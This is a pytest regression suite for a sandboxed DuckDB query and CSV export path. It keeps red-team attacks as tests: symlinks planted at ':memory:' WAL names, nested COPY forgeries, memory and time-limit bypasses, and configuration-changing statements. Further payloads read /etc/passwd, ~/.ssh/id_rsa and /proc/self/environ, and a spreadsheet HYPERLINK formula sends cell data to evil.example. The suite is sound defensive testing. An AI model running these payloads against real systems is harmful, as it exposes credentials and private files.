"""The ad-hoc query path holds whatever DuckDB does (``lake.confined``): the holes a red team found in DuckDB 2.0
(``<cwd>/:memory:`` and its ``.wal`` names writable with file access off; ``memory_limit`` and ``interrupt()`` not
bounding every query), and the attacks that held, kept as regressions.

The connection's walls are tried alone here where the statement check would otherwise stop the attempt first
(``unchecked``): what is shown is that the child process, not the SQL filter, keeps the lake and the working folder
untouched."""

from __future__ import annotations

import os
import signal
import time
from pathlib import Path

import duckdb
import pytest

from dialogbench.cli import main
from dialogbench.lake import query as query_module
from dialogbench.lake.limits import LimitExceeded, Limits
from dialogbench.lake.query import QueryRefused, export, run
from dialogbench.lake.statements import check_reads_only
from tests.lake.test_query import cli, lake, refused_in_one_line, tree, workdir  # noqa: F401 (fixtures)

MEMORY_NAMES = [":memory:", ":memory:.wal", ":memory:.wal.checkpoint", ":memory:.wal.recovery"]


@pytest.fixture
def planted(lake, workdir) -> dict[str, Path]:
    """The red team's links: each name DuckDB 2.0 lets a connection write, in the working folder, pointing at a
    file of the lake (a COPY with ``USE_TMP_FILE false`` writes through a link to a file that exists)."""
    seeds = lake.files("seeds")[0]
    record = seeds.with_name(f".{seeds.name}.json")  # a folder lake's record of the file; a Delta lake's log
    record = record if record.is_file() else lake.table_dir("seeds") / "_delta_log" / f"{0:020d}.json"
    targets = {":memory:": seeds, ":memory:.wal": record,
               ":memory:.wal.checkpoint": lake.root / "lake.json", ":memory:.wal.recovery": lake.root / "catalog.duckdb"}
    for name, target in targets.items():
        assert target.is_file(), target
        (workdir / name).symlink_to(target)
    return targets


@pytest.fixture
def unchecked(monkeypatch):
    """The statement check off, so that only the confined child stands between the SQL and the files."""
    monkeypatch.setattr(query_module, "check_reads_only", lambda sql: None)


def copies() -> list[str]:
    found = []
    for name in MEMORY_NAMES:
        for options in ("FORMAT csv", "FORMAT csv, USE_TMP_FILE false", "FORMAT parquet, USE_TMP_FILE false"):
            found.append(f"COPY (SELECT 'forged' AS a) TO '{name}' ({options})")
            found.append(f"WITH x AS (COPY (SELECT 'forged' AS a) TO '{name}' ({options})) SELECT * FROM x")
    return found


def test_the_memory_names_duckdb_lets_a_query_write_reach_no_planted_link(lake, workdir, planted, unchecked):
    """Every COPY to a ``:memory:`` name, through ``run`` (all in one child) and ``export``, with the links planted:
    the lake, the working folder and the links' targets are as they were (the child works in a private empty
    folder, and may write no byte to a file)."""
    def attempt(con, sql):
        outcomes = {}
        for copy in copies():
            try:
                con.execute(copy).fetchall()
                outcomes[copy] = "written"
            except duckdb.Error as exc:
                outcomes[copy] = type(exc).__name__
        return outcomes

    before = tree(lake.root, workdir)
    outcomes = run(lake, "SELECT 1", attempt)
    assert tree(lake.root, workdir) == before
    assert set(outcomes.values()) == {"IOException"}, outcomes  # EFBIG: File too large
    for sql in copies()[3::6]:  # the WITH spelling, USE_TMP_FILE false, one for each name
        with pytest.raises(QueryRefused, match="File too large"):
            export(lake, sql, workdir.parent / "out.csv")
    assert tree(lake.root, workdir) == before
    assert not (workdir.parent / "out.csv").exists()


def test_the_child_leaves_no_file_in_its_private_folder(lake, workdir, monkeypatch, tmp_path, unchecked):
    """With no link planted, the names resolve in the child's private folder: it is gone afterwards, and the temp
    folder it was made in holds nothing new."""
    temp = tmp_path / "temp"
    temp.mkdir()
    monkeypatch.setenv("TMPDIR", str(temp))
    monkeypatch.setattr("tempfile.tempdir", None)
    for sql in copies()[2:4]:
        with pytest.raises(QueryRefused):
            run(lake, sql, lambda con, sql: con.execute(sql).fetchall())
    assert list(temp.iterdir()) == [] and list(workdir.iterdir()) == []


def test_the_cli_refuses_the_red_teams_forgery_with_the_links_planted(lake, workdir, planted):
    before = tree(lake.root, workdir)
    for command in ("query", "export"):
        sql = "WITH x AS (COPY (SELECT 'forged' a) TO ':memory:' (FORMAT csv)) SELECT * FROM x"
        extra = ["--out", str(workdir.parent / "x.csv")] if command == "export" else []
        error = refused_in_one_line(cli([command, sql, "--lake", str(lake.root), *extra], workdir))
        assert "nests COPY" in error
    assert tree(lake.root, workdir) == before


@pytest.mark.parametrize("sql", [
    "WITH x AS (COPY (SELECT 1) TO 'out.csv') SELECT * FROM x",
    "with x as (insert into t values (1) returning *) select * from x",
    "WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT 1",
    "WITH x AS (DELETE FROM t RETURNING *) SELECT 1",
    "WITH y AS (SELECT 1), x AS (COPY (SELECT 1) TO ':memory:') SELECT * FROM y",
    "EXPLAIN WITH x AS (COPY (SELECT 1) TO ':memory:') SELECT * FROM x",
    "DESCRIBE (WITH x AS (COPY (SELECT 1) TO ':memory:') SELECT 1)",
    "SELECT * FROM (WITH x AS (DELETE FROM t RETURNING *) SELECT 1)",
    "SELECT 1 UNION ALL (WITH x AS (COPY (SELECT 1) TO ':memory:') SELECT 1)",
])
def test_a_statement_nested_in_a_select_is_refused(sql):
    """A WITH may hold COPY, INSERT, UPDATE or DELETE and still parse as a SELECT: the parse tree is walked."""
    with pytest.raises(QueryRefused, match="nests"):
        check_reads_only(sql)


def test_a_statement_kind_this_duckdb_does_not_name_is_refused_in_one_line(lake, capsys):
    with pytest.raises(QueryRefused, match=r"UPDATE EXTENSIONS .*does not name"):
        check_reads_only("UPDATE EXTENSIONS")
    assert main(["query", "UPDATE EXTENSIONS", "--lake", str(lake.root)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and err.count("\n") == 1


def test_max_rows_below_one_is_a_usage_error(lake, capsys):
    for value in ("-5", "0", "many"):
        with pytest.raises(SystemExit) as info:
            main(["query", "SELECT 1", "--lake", str(lake.root), "--max-rows", value])
        assert info.value.code == 2
        assert "--max-rows: expected a positive integer" in capsys.readouterr().err


# --- Limits that hold whatever the query does ---------------------------------------------------------------------

def test_memory_outside_duckdbs_buffer_manager_is_bounded(lake):
    """The red team's ``repeat`` (DuckDB's ``memory_limit`` does not count it: 2 GB taken under a 100 MB limit):
    the child's data segment is capped, so the allocation fails at once."""
    start = time.perf_counter()
    with pytest.raises(LimitExceeded, match="memory than its limit of 100MB.*--memory-limit"):
        run(lake, "SELECT length(repeat('a', 400000000))", lambda con, sql: con.execute(sql).fetchall(),
            limits=Limits(timeout_s=60, memory="100MB"))
    assert time.perf_counter() - start < 30


def test_the_time_limit_holds_for_work_no_interrupt_stops(lake):
    """Work that DuckDB's ``interrupt()`` cannot stop (here a sleep; in the red team's run a 1 GB ``repeat``, 19 s
    past a 5 s limit) is killed at its deadline."""
    start = time.perf_counter()
    with pytest.raises(LimitExceeded, match="time limit of 1 s"):
        run(lake, "SELECT 1", lambda con, sql: time.sleep(60), limits=Limits(timeout_s=1))
    assert time.perf_counter() - start < 20


def test_a_child_killed_by_a_signal_is_one_line(lake):
    """A child that dies unheard (here SIGKILL, as the kernel's OOM killer sends): one line saying so."""
    with pytest.raises(QueryRefused, match=r"the query's process ended \(signal SIGKILL\) before it answered"):
        run(lake, "SELECT 1", lambda con, sql: os.kill(os.getpid(), signal.SIGKILL))


def test_an_error_of_the_consumer_comes_back_as_it_was(lake):
    def fails(con, sql):
        raise KeyError("from the child")

    with pytest.raises(KeyError, match="from the child"):
        run(lake, "SELECT 1", fails)


def test_a_reader_that_stops_reading_stops_the_query(lake, monkeypatch):
    """``dialogbench query … | head``: the parent's stdout fails, the child is killed, BrokenPipeError is raised
    here (the CLI makes it quiet), at once rather than after the whole result."""
    class Closed:
        def write(self, text):
            raise BrokenPipeError(32, "Broken pipe")

        def flush(self):
            pass

    def prints_forever(con, sql):
        import sys

        while True:
            print("row", flush=True, file=sys.stdout)

    monkeypatch.setattr("sys.stdout", Closed())
    start = time.perf_counter()
    with pytest.raises(BrokenPipeError):
        run(lake, "SELECT 1", prints_forever, limits=Limits(timeout_s=120))
    assert time.perf_counter() - start < 30


# --- The red team's attacks that held, kept ----------------------------------------------------------------------

@pytest.mark.parametrize("sql", [
    "EXPLAIN ANALYZE SELECT 1", "explain analyze select 1", "EXPLAIN /* x */ ANALYZE SELECT 1",
    "EXPLAIN (ANALYZE) SELECT 1", "EXPLAIN ANALYZE COPY (SELECT 1) TO 'x.csv'",
    "PREPARE p AS SELECT 1", "PREPARE p AS COPY (SELECT 1) TO 'x.csv'", "EXECUTE p",
    "SELECT 1; COPY (SELECT 1) TO 'x.csv'", "SELECT 1;SELECT 2", "SELECT 1; -- only a comment\nATTACH 'x.db'",
    "CALL checkpoint()", "call pragma_version()", "CALL enable_profiling()",
    "PRAGMA enable_profiling", "pragma   threads=4", "PRAGMA memory_limit='100GB'", "PRAGMA enable_checkpoint_on_shutdown",
    "SET enable_external_access = true", "SET GLOBAL memory_limit = '100GB'", "SET SESSION threads = 1",
    "SET allowed_paths = ['/etc']", "RESET memory_limit", "SET lock_configuration = false",
    "LOAD httpfs", "LOAD '/tmp/x.duckdb_extension'", "INSTALL httpfs", "FORCE INSTALL httpfs FROM community",
    "ATTACH 'x.db'", "ATTACH DATABASE 'x.db' AS x", "ATTACH IF NOT EXISTS ':memory:' AS m", "ATTACH '' AS y",
    "DETACH DATABASE x", "USE x",
    "EXPORT DATABASE 'dir'", "EXPORT DATABASE 'dir' (FORMAT parquet)", "IMPORT DATABASE 'dir'",
    "COPY FROM DATABASE memory TO x",
])
def test_the_red_teams_spellings_that_held_are_refused(sql):
    with pytest.raises(QueryRefused):
        check_reads_only(sql)


READS = ["SELECT * FROM read_text('/etc/passwd')", "SELECT * FROM read_csv('/etc/passwd')", "FROM '/etc/passwd'",
         "SELECT * FROM read_csv_auto('/etc/passwd', header = false)", "SELECT * FROM sniff_csv('/etc/passwd')",
         "SELECT * FROM glob('/etc/*')", "SELECT * FROM read_text('file:///etc/passwd')",
         "SELECT * FROM glob('~/.ssh/*')", "SELECT * FROM read_text('~/.ssh/id_rsa')",
         f"SELECT * FROM read_blob('{Path.home() / '.ssh' / '*'}')",
         "SELECT * FROM read_blob('/proc/self/environ')", "SELECT * FROM read_text('/proc/self/cmdline')",
         "SELECT * FROM parquet_metadata('/proc/self/maps')", "SELECT * FROM read_text('/proc/1/environ')",
         "SELECT * FROM read_csv('http://127.0.0.1:9/x.csv')", "FROM 'http://127.0.0.1:9/x.csv'",
         "SELECT * FROM read_parquet('https://example.com/x.parquet')", "SELECT * FROM read_json('s3://bucket/x.json')",
         "SELECT * FROM read_text('hf://datasets/x/y.txt')"]


def test_the_red_teams_file_and_url_reads_read_nothing(lake):
    """/etc/passwd, ~/.ssh, /proc and URLs, each read spelled as the red team did, in the query's child: every one
    fails (the statement check passes a SELECT; the connection has no file system) and none returns a byte."""
    def attempt(con, sql):
        outcomes = {}
        for read in READS:
            try:
                outcomes[read] = con.sql(read).fetchall()
            except duckdb.Error as exc:
                outcomes[read] = type(exc).__name__
        return outcomes

    for read in READS:
        check_reads_only(read)  # they are reads: the walls that stop them are the connection's
    outcomes = run(lake, "SELECT 1", attempt)
    assert set(outcomes.values()) <= {"PermissionException", "CatalogException"}, outcomes
    for read in READS[:3] + READS[10:12]:
        with pytest.raises(QueryRefused):
            run(lake, read, lambda con, sql: con.execute(sql).fetchall())


# --- A csv for people runs no formula a model wrote ------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1, "click")'


def test_a_csv_export_guards_formulas_unless_raw(lake, tmp_path):
    sql = f"SELECT '{FORMULA.replace(chr(39), chr(39) * 2)}' AS answer, '@SUM(1)' AS \"=col\", -5 AS n, 'fine' AS t"
    export(lake, sql, tmp_path / "guarded.csv")
    header, row = (tmp_path / "guarded.csv").read_text().splitlines()
    assert header == '"answer","\'=col","n","t"'
    assert row == '"\'=HYPERLINK(""http://evil.example/?q=""&A1, ""click"")","\'@SUM(1)",-5,"fine"'
    export(lake, sql, tmp_path / "raw.csv", raw=True)
    assert (tmp_path / "raw.csv").read_text().splitlines()[1].startswith('"=HYPERLINK(')


def test_query_csv_guards_formulas_unless_raw(lake, capsys):
    sql = "SELECT '=1+1' AS a, '+cmd' AS b, 3 AS n"
    assert main(["query", sql, "--lake", str(lake.root), "--format", "csv"]) == 0
    assert capsys.readouterr().out.splitlines() == ["a,b,n", "'=1+1,'+cmd,3"]
    assert main(["query", sql, "--lake", str(lake.root), "--format", "csv", "--raw"]) == 0
    assert capsys.readouterr().out.splitlines() == ["a,b,n", "=1+1,+cmd,3"]


def test_a_lake_named_by_a_relative_path_reads_its_rows(lake, monkeypatch, tmp_path, capsys):
    """The child works in a private empty folder: a lake given as ``data_lake`` (the CLI's default) must still be
    read there, not as empty tables (the README's ``export`` found no rows and ``elo`` failed on the empty file)."""
    seeds = len(lake.read("seeds"))
    assert seeds > 0
    monkeypatch.chdir(lake.root.parent)
    assert main(["query", "SELECT count(*) AS n FROM seeds", "--lake", lake.root.name, "--format", "csv"]) == 0
    assert capsys.readouterr().out.splitlines() == ["n", str(seeds)]
    relative = type(lake)(Path(lake.root.name), layout=lake.layout)
    assert export(relative, "SELECT seed_id FROM seeds", tmp_path / "seeds.csv") == seeds
